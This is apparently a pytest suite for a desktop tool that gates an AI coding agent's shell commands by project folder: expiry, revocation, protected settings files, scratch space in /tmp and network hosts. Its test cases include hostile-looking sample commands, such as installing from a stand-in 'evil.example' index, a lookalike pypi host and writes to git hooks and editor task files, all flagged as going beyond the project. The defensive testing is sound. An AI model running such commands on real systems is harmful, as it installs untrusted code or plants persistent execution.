"""Project mode: which folders may have it, until when, and how it ends."""

from __future__ import annotations

import os
import sqlite3
import sys
import uuid
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import pytest

from desktop.database import Database, migrate
from desktop.errors import UserFacing
from desktop.events import Bus
from desktop.gate.commands import Commands
from desktop.gate.migrations import MIGRATIONS
from desktop.gate.projects import (
    DAY_S,
    ProjectDuration,
    ProjectModeChanged,
    Projects,
    Scratch,
    beyond,
    deleted,
    is_near,
    is_protected,
    leads_out,
    stays_in_scratch,
)
from desktop.gate.request import Request
from desktop.gate.shell.classifier import Classifier
from desktop.gate.shell.tables import Tables
from desktop.paths import resources
from tests.fakes.clock import SetTime


@pytest.fixture
def clock() -> SetTime:
    return SetTime()


@pytest.fixture
def home(tmp_path: Path) -> Path:
    folder = tmp_path / "me"
    folder.mkdir()
    return folder


@pytest.fixture
def folder(home: Path) -> Path:
    made = home / "code" / "project"
    (made / ".git").mkdir(parents=True)
    (made / "part").mkdir()
    return made


@pytest.fixture
def projects(database: Database, clock: SetTime, home: Path) -> Projects:
    return Projects(database, [home / ".local" / "share" / "steward"], now=clock, home=home)


def test_a_project_is_on_in_all_its_folders(projects: Projects, folder: Path) -> None:
    """In the folder, below it, and nowhere else."""
    assert projects.of(folder) is None
    begun = projects.begin(folder, None)
    assert projects.of(folder) == projects.of(folder / "part") == begun
    assert projects.of(folder.parent) is None
    assert projects.of(folder.parent / "project2") is None


def test_it_ends_by_itself(projects: Projects, clock: SetTime, folder: Path) -> None:
    """At the chosen time, without anybody tidying up; a command that comes then is not counted."""
    begun = projects.begin(folder, clock.now + 60)
    assert projects.use(begun)
    clock.now += 60
    assert projects.of(folder) is None
    assert projects.listed() == []
    assert not projects.use(begun)


def test_it_is_listed_counted_revoked_and_put_back(projects: Projects, clock: SetTime, folder: Path) -> None:
    """Like a grant; what the clock ended, or what was begun anew meanwhile, is not put back."""
    begun = projects.begin(folder, clock.now + 60)
    clock.now += 5
    assert projects.use(begun)
    (listed,) = projects.listed()
    assert (listed.folder, listed.uses, listed.used_at, listed.begun) == (folder, 1, clock.now, clock.now - 5)
    projects.end(begun.id)
    assert projects.of(folder) is None
    projects.restore(begun.id)
    assert projects.listed() == [listed]
    projects.end(begun.id)
    again = projects.begin(folder, None)
    projects.restore(begun.id)
    assert [each.id for each in projects.listed()] == [again.id]
    projects.end(again.id)
    clock.now += 60
    projects.restore(begun.id)
    assert projects.listed() == []


def test_commands_are_counted_without_the_disk(
    projects: Projects, clock: SetTime, folder: Path, database: Database
) -> None:
    """Uses are written now and then, and all of them when somebody looks or the program ends."""
    begun = projects.begin(folder, None)
    clock.now += 60
    uses_sql = "SELECT uses FROM projects"

    def written() -> int:
        database.write(lambda _connection: None)  # behind whatever was put in line before
        return int(database.read(lambda c: c.execute(uses_sql).fetchone()[0]))

    assert all(projects.use(begun) for _ in range(5))
    assert written() == 1
    projects.close()
    assert written() == 5
    assert projects.use(begun)
    assert [each.uses for each in projects.listed()] == [6]


def test_begun_again_it_has_the_new_end(projects: Projects, clock: SetTime, folder: Path) -> None:
    """One line for a folder, not one for each yes."""
    projects.begin(folder, clock.now + 60)
    projects.begin(folder, clock.now + 10)
    (listed,) = projects.listed()
    assert listed.until == clock.now + 10


def test_whoever_shows_it_is_told(database: Database, folder: Path, home: Path) -> None:
    """Each begin, end and restore tells the folders in which it is on."""
    bus, told = Bus(), []
    bus.subscribe(ProjectModeChanged, lambda event: told.append(event.folders))
    projects = Projects(database, bus=bus, home=home)
    begun = projects.begin(folder, None)
    projects.end(begun.id)
    projects.restore(begun.id)
    assert told == [(folder,), (), (folder,)]


@pytest.mark.parametrize(
    "named", ["/", "/tmp", "/etc", "/usr/lib/x", "/home", "~", "~/..", "~/.ssh", "~/.config/x", "~/gone"]
)
def test_what_is_no_project_is_refused(projects: Projects, home: Path, named: str) -> None:
    """Not the disk, not the system, not a home folder or what holds it, no folder of programs' secrets."""
    folder = Path(named.replace("~", str(home)))
    with pytest.raises(UserFacing) as refused:
        projects.begin(folder, None)
    assert refused.value.code == "project-unfit"
    assert projects.listed() == []


def test_stewards_own_folders_are_in_no_project(database: Database, home: Path) -> None:
    """Neither the folder itself, nor one in it, nor one around it."""
    own = home / "stuff" / "steward"
    (own / "journal").mkdir(parents=True)
    projects = Projects(database, [own], home=home)
    assert all(projects.unfit(each) for each in (own, own / "journal", own.parent))


def test_a_link_is_the_folder_that_it_leads_to(projects: Projects, home: Path, folder: Path) -> None:
    """A link to the home folder is no project, and a link to a project is that project."""
    (home / "code" / "link").symlink_to(home)
    with pytest.raises(UserFacing):
        projects.begin(home / "code" / "link", None)
    (home / "code" / "other").symlink_to(folder)
    assert projects.begin(home / "code" / "other", None).folder == folder


def test_the_root_is_the_repository(projects: Projects, home: Path, folder: Path) -> None:
    """Else the folder itself; a repository around the whole home folder does not count."""
    assert projects.root_of(folder / "part") == folder
    (home / ".git").mkdir()
    alone = home / "notes"
    alone.mkdir()
    assert projects.root_of(alone) == alone
    assert projects.root_of(home) is None
    projects.begin(folder / "part", None)
    assert projects.root_of(folder / "part") == folder / "part"


def test_spans_end_when_they_say() -> None:
    """Today ends at the next midnight of the user's clock, a week after seven days, the last never."""
    now = datetime(2026, 3, 4, 15, 30).timestamp()
    assert ProjectDuration.TODAY.end(now) == datetime(2026, 3, 5).timestamp()
    assert ProjectDuration.WEEK.end(now) == now + 7 * DAY_S
    assert ProjectDuration.UNTIL_REVOKED.end(now) is None


def test_an_older_file_keeps_its_grants(tmp_path: Path) -> None:
    """The step that adds project mode leaves the grants of before as they were, without an end."""
    path = tmp_path / "old.sqlite3"
    connection = sqlite3.connect(path, isolation_level=None)
    connection.row_factory = sqlite3.Row
    migrate(connection, [each for each in MIGRATIONS if each.number <= 3], path)
    connection.execute(
        "INSERT INTO grants (scope, tool, kind, text, folder, chat, granted_at, used_at) "
        "VALUES ('always', 'Bash', 'exact', 'make', '/p', '', 1, 2)"
    )
    migrate(connection, MIGRATIONS, path)
    row = connection.execute("SELECT * FROM grants_in_use").fetchone()
    assert (row["text"], row["used_at"], row["until"]) == ("make", 2, None)
    assert connection.execute("SELECT count(*) FROM projects").fetchone()[0] == 0
    connection.close()
    assert os.path.exists(path)


ROOT = Path("/home/me/project")
COMMANDS = Commands(Classifier(Tables(resources() / "commands"), remember=False))


def request_for(line: str) -> Request:
    verdict = COMMANDS.verdict(line, "bash", str(ROOT), str(ROOT))
    return COMMANDS.request(verdict, line, ROOT, "Bash", "1", project=ROOT)


@pytest.mark.parametrize(
    "line",
    [
        "npm ci",
        "npm test",
        "pip install requests",
        "cargo fetch",
        "go mod download",
        "uv sync && uv run pytest",
        "poetry install",
        "git add . && git commit -m x",
        "git checkout -b topic",
        "docker ps",
        "make",
        "curl -o out.json http://localhost:3000/x",
        "echo x > .gitignore",
    ],
)
def test_a_day_of_work_stays_in_the_project(line: str) -> None:
    """Building, testing, committing and installing from a package index need nothing else."""
    assert beyond(request_for(line)) is None


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("docker compose up -d", "what docker does goes beyond any folder"),
        ("sudo -u x true; apt install jq", "what apt does goes beyond any folder"),
        ("npm test; pkill node", "what pkill does goes beyond any folder"),
        ("git pull", "git talks to another computer"),
        ("gh pr create --title x", "gh talks to another computer"),
        ("pip install --index-url http://evil.example/simple x", "evil.example is not a package index"),
        ("wget -O x https://github.com/a", "github.com is not a package index"),
        ("git config user.name x", "git config changes settings that git follows"),
        ("cp x .git/hooks/pre-commit", ".git/hooks/pre-commit controls what other programs run"),
        ("echo x >> sub/.git/config", "sub/.git/config controls what other programs run"),
        (
            "cd sub && touch ../.vscode/tasks.json",
            "sub/../.vscode/tasks.json controls what other programs run",
        ),
    ],
)
def test_what_would_fail_in_the_project_asks(line: str, reason: str) -> None:
    """Services, other hosts and git's own orders are told before the command fails."""
    assert str(beyond(request_for(line))) == reason


@pytest.mark.parametrize(
    ("host", "near"),
    [
        ("localhost", True),
        ("127.0.0.1", True),
        ("[::1]", True),
        ("pypi.org", True),
        ("cdn.pypi.org.evil.example", False),
        ("static.crates.io", True),
        ("notcrates.io", False),
        ("10.0.0.1", False),
        ("", False),
    ],
)
def test_near_are_this_computer_and_package_indexes(host: str, near: bool) -> None:
    """Whole names, and what lies below those with a dot in front."""
    assert is_near(host) is near


@pytest.mark.parametrize(
    ("line", "paths"),
    [
        ("rm a b/c", ("/home/me/project/a", "/home/me/project/b/c")),
        ("rm -rf node_modules && npm ci", ("/home/me/project/node_modules",)),
        ("rm -rf *.log", ("/home/me/project/*.log",)),
        ("rm -rf $X", None),
        ("rm -rf ../x", None),
        ("rm -rf .", None),
        ("git branch -D x", None),
        ("kill 1", None),
    ],
)
def test_what_a_line_deletes_is_told_or_not_at_all(line: str, paths: tuple[str, ...] | None) -> None:
    """Paths in the project; None where one lies elsewhere, is not told, or is no file."""
    assert deleted(request_for(line)) == paths


@pytest.mark.parametrize(
    ("path", "protected"),
    [
        (".git/config", True),
        (".git/hooks/pre-push", True),
        (".git", True),
        (".envrc", True),
        (".vscode/tasks.json", True),
        (".idea/x/y", True),
        (".vscode/other.json", False),
        (".git/index", False),
        (".github/x", False),
        ("src/a.py", False),
    ],
)
def test_settings_and_hooks_are_protected(path: str, protected: bool) -> None:
    """What git, agents and editors obey; what a commit writes is not among it."""
    assert is_protected(path) is protected


def test_hosts_of_the_users_are_near() -> None:
    """A name by itself, and with a dot in front all below it; nothing beside them."""
    more = ["files.example", ".example.org"]
    for host in ("files.example", "a.b.example.org", "pypi.org"):
        assert beyond(request_for(f"wget -O x https://{host}/a"), more) is None
    for host in ("a.files.example", "example.org", "github.com"):
        assert (
            str(beyond(request_for(f"wget -O x https://{host}/a"), more)) == f"{host} is not a package index"
        )


FREE = "/tmp/steward-test-that-nobody-makes"


@pytest.fixture
def roomy(monkeypatch: pytest.MonkeyPatch) -> None:
    """However full this computer's own /tmp is."""
    monkeypatch.setattr("desktop.gate.projects.MOST_ENTRIES", sys.maxsize)


@pytest.mark.parametrize(
    ("line", "stays"),
    [
        (f"echo x > {FREE}", True),
        (f"go build -o {FREE}/a . && {FREE}/a run > out.txt", True),
        (f"mkdir -p {FREE} && echo x > {FREE}/a && rm -rf {FREE}", True),
        (f"echo x > {FREE} && echo x > ~/notes", False),
        (f"echo x > {FREE}/../other/x && echo y > /etc/x", False),
        (f"cp a {FREE} && cp a ../b", False),
        (f"echo x > {FREE}; rm -rf /opt/x", False),
        ("echo x > /etc/x", False),
        ("echo x > out.txt", False),
    ],
)
@pytest.mark.usefixtures("roomy")
def test_what_stays_in_tmp_is_known(line: str, stays: bool) -> None:
    """Only where every change beyond the project lies in a place of the project's own."""
    assert stays_in_scratch(request_for(line)) is stays


@pytest.mark.usefixtures("roomy")
def test_its_own_in_tmp_needs_no_copies() -> None:
    """What a project made there itself is not kept before it is deleted; what lies in the project is."""
    assert deleted(request_for(f"rm -rf {FREE}")) == ()
    assert deleted(request_for(f"rm -rf {FREE} src")) == (str(ROOT / "src"),)
    for place in ("/opt/x", "~/x"):
        assert deleted(request_for(f"rm -rf {FREE} {place}")) is None


@pytest.fixture
def entry() -> Iterator[Path]:
    """A name in /tmp at which nothing stands."""
    place = Path("/tmp") / f"steward-test-{uuid.uuid4().hex}"
    yield place
    if place.is_dir():
        for each in sorted(place.rglob("*"), reverse=True):
            each.rmdir() if each.is_dir() else each.unlink()
        place.rmdir()
    place.unlink(missing_ok=True)


def test_what_was_there_before_is_taken(tmp_path: Path) -> None:
    """A session may go on with a file that was not there when it named it first; another may not."""
    scratch, place = Scratch(), tmp_path / "out.txt"
    assert scratch.taken("one", [str(place)]) == ()
    place.write_text("x")
    assert scratch.taken("one", [str(place)]) == ()
    assert scratch.taken("two", [str(place)]) == (str(place),)


def test_a_link_is_never_its_own(tmp_path: Path) -> None:
    """Whoever put it there meanwhile may have led it elsewhere."""
    scratch, place = Scratch(), tmp_path / "out.txt"
    scratch.taken("one", [str(place)])
    place.symlink_to(tmp_path)
    assert scratch.taken("one", [str(place)]) == (str(place),)


@pytest.mark.usefixtures("roomy")
def test_what_a_project_made_in_tmp_is_its_own(entry: Path) -> None:
    """The whole entry, however deep the line goes into it; for another project it is somebody else's."""
    scratch, home = Scratch(), Path("/home/me")
    assert scratch.places("one", "", home, [f"{entry}/a/b", str(entry), "x", "/etc/x"]) == (str(entry),)
    entry.mkdir()
    assert scratch.places("one", "", Path("/tmp"), [f"{entry.name}/c"]) == (str(entry),)
    assert scratch.places("two", "", home, [f"{entry}/c"]) == ()


def test_a_crowded_tmp_is_nobody_s(entry: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """With more entries than can be held while a command runs, none is the project's own."""
    entry.mkdir()
    monkeypatch.setattr("desktop.gate.projects.MOST_ENTRIES", 0)
    assert Scratch().places("one", "", Path("/tmp"), [FREE]) == ()


@pytest.mark.parametrize("path", ["/tmp", "/tmp/..", "/tmp/../etc/x", "~/x", "/var/tmp/x", "/tmp/a\0b"])
def test_only_entries_of_tmp_are_places(path: str) -> None:
    """Neither the folder itself nor what lies elsewhere."""
    assert Scratch().places("one", "", Path("/home/me"), [path]) == ()


@pytest.mark.usefixtures("roomy")
def test_a_folder_named_as_the_session_is_its_own(entry: Path) -> None:
    """Agents give their model such a folder; a short name, another's, or one behind a link is none."""
    session = uuid.uuid4().hex
    own = entry / "work" / session
    own.mkdir(parents=True)
    scratch, home = Scratch(), Path("/home/me")
    wanted = [f"{own}/notes/a.txt"]
    assert scratch.places("one", session, home, wanted) == (str(own),)
    assert scratch.places("one", uuid.uuid4().hex, home, wanted) == ()
    assert scratch.places("one", "work", home, wanted) == ()
    (entry / "link").symlink_to(entry / "work")
    assert scratch.places("one", session, home, [f"{entry}/link/{session}/a"]) == ()


def test_links_lead_out(tmp_path: Path) -> None:
    """Of what is written at a path, and of a file that has a second name."""
    inside, outside = tmp_path / "in", tmp_path / "out"
    inside.mkdir()
    outside.mkdir()
    (outside / "file").write_text("x")
    (inside / "link").symlink_to(outside)
    (inside / "plain").write_text("x")
    os.link(outside / "file", inside / "same")
    told = {name: leads_out(str(inside / name), [str(inside)]) for name in ("link/x", "same", "plain", "new")}
    assert told == {"link/x": True, "same": True, "plain": False, "new": False}
